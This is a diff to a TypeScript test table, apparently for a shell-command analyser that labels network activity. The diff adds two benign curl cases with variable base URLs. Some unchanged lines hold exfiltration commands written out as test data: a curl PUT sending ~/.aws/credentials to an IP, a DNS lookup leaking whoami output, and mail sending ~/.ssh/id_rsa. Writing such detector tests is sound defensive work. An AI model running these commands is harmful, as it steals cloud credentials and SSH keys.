@@ -37,6 +37,8 @@ const cases: Case[] = [
   // network
   ['curl -X PUT -d "$(cat ~/.aws/credentials)" https://203.0.113.5:8443/u', 'network', [{ via: 'curl', host: '203.0.113.5', port: 8443, method: 'PUT', sendsData: true, protocol: 'https', dataSources: [{ kind: 'file', path: '~/.aws/credentials' }] }]],
   ['wget -q https://dl.example.com/tool.tgz', 'network', [{ via: 'wget', host: 'dl.example.com', sendsData: false }]],
+  ['curl -s -H "Authorization: Bearer $T" "$API_BASE_URL/v1/items"', 'network', [{ via: 'curl', url: '$API_BASE_URL/v1/items' }]],
+  ['BASE_URL="${SVC_URL:-https://svc.example}"\ncase "$1" in --base-url) BASE_URL="$2";; esac\ncurl -s "$BASE_URL/api"', 'network', [{ via: 'curl', url: '$BASE_URL/api' }]],
   ['dig $(whoami).oast.example', 'network', [{ via: 'dig', protocol: 'dns', sendsData: true, dataSources: [{ kind: 'system-info' }] }]],
   ['git push https://github.com/x/y.git', 'network', [{ via: 'git push', sendsData: true, host: 'github.com' }]],
   ['mail -s hi a@b.example < ~/.ssh/id_rsa', 'network', [{ via: 'mail', protocol: 'smtp', sendsData: true, dataSources: [{ kind: 'file', path: '~/.ssh/id_rsa' }] }]],
